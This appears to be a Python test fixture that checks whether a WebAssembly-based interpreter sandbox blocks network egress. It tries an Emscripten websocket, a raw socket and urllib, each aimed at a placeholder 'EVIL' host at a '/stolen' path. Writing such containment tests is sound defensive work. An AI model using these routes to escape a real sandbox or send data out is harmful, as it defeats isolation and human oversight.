# Tries the sockets that are linked into the interpreter: Python's own, and by ctypes.
import ctypes, socket, urllib.request

port = int(EVIL.rpartition(":")[2])


def connect():
    made = socket.socket()
    made.setblocking(False)
    try:
        made.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    return made


class Attributes(ctypes.Structure):
    _fields_ = [("url", ctypes.c_char_p), ("protocols", ctypes.c_char_p), ("main", ctypes.c_bool)]


def open_websocket():
    attributes = Attributes((EVIL.replace("http", "ws") + "/stolen").encode(), None, True)
    if ctypes.CDLL(None).emscripten_websocket_new(ctypes.byref(attributes)) <= 0:
        raise OSError("no handle")


await attempt("emscripten_websocket_new", open_websocket)
await attempt("socket.connect", connect)
await asyncio.sleep(0.5)
await attempt("urllib", lambda: urllib.request.urlopen(EVIL + "/stolen", timeout=0.3))
print("tried")
